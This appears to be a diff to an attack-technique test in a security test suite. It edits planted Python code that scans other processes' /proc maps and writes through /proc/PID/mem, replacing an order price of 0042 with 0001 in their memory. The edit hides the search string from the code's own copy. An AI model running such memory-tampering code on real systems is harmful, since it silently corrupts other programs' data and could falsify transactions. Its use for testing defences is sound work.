@@ -9,7 +9,8 @@ from tests.attacks.technique import Technique
 PLANT = (
     FAMILY
     + """
-good, bad = b"price of an order: 00" + b"42", b"price of an order: 0001"
+# Backwards, and made anew for every search: a copy that lies below the price in memory would be overwritten first.
+good, bad = b"2400 :redro na fo ecirp", b"price of an order: 0001"
 for pid in [*others(), mine]:
     try:
         with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "r+b", buffering=0) as memory:
@@ -23,12 +24,12 @@ for pid in [*others(), mine]:
                     data = memory.read(end - start)
                 except (OSError, ValueError):
                     continue
-                at = data.find(good)
+                at = data.find(good[::-1])
                 try:
                     while at >= 0:
                         memory.seek(start + at)
                         memory.write(bad)
-                        at = data.find(good, at + 1)
+                        at = data.find(good[::-1], at + 1)
                 except OSError:
                     continue
     except OSError:
